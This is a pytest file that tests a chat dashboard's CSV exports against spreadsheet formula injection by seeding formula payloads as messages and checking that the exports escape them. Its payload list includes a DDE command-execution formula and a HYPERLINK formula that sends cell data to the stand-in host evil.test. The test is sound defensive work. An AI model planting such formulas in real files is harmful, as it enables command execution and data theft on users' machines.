"""No cell of an exported file is a formula."""

from __future__ import annotations

import csv
import io

import pytest
from serving import Server
from staff_member import StaffMember
from visitor import Chat

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?"&A1,"zqx")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1",
    '","=1+1',
    '"\r\n=1+1',
]


@pytest.fixture
def unanswered(chat: Chat, server: Server) -> None:
    """The formulas as messages without an answer, past all that tidies what is typed."""
    for _ in FORMULAS:
        chat.say("hello")
    turns = [turn["id"] for turn in chat.turns()]
    with server.opened() as database:
        database.executemany(
            "UPDATE turns SET text = ?, topic = ?, outcome = 'clarified' "
            "WHERE message_id = ?",
            [
                (text, text[:60], turn)
                for text, turn in zip(FORMULAS, turns, strict=True)
            ],
        )


def test_no_cell_of_the_file_of_messages_is_a_formula(
    unanswered: None, admin: StaffMember
) -> None:
    answer = admin.get("/dashboard/unanswered.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.headers["cache-control"] == "no-store"
    text = answer.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    for formula in FORMULAS:
        kept = formula if formula.startswith('"') else f"'{formula}"
        assert kept in cells, formula
    for cell in cells:
        assert not cell.lstrip().startswith(tuple("=+-@\uff1d\uff0b")), cell


@pytest.mark.parametrize(
    "name", ["conversations", "concerns", "attitude", "outcomes", "helpful"]
)
def test_no_cell_of_a_file_of_numbers_is_a_formula(
    unanswered: None, admin: StaffMember, name: str
) -> None:
    text = admin.get(f"/dashboard/{name}.csv").content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in row), row
